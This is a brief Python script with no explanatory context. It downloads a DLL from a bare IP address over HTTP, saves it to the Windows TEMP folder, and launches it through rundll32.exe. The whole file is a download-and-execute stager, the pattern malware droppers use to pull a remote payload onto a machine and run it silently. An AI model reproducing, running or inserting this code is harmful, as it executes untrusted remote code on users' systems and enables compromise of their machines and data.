import base64, os, subprocess, requests
data = requests.get("http://203.0.113.44/version.dll").content
p = os.path.join(os.getenv("TEMP"), "version.dll")
with open(p, "wb") as f:
    f.write(data)
subprocess.Popen(["rundll32.exe", p + ",Start"])
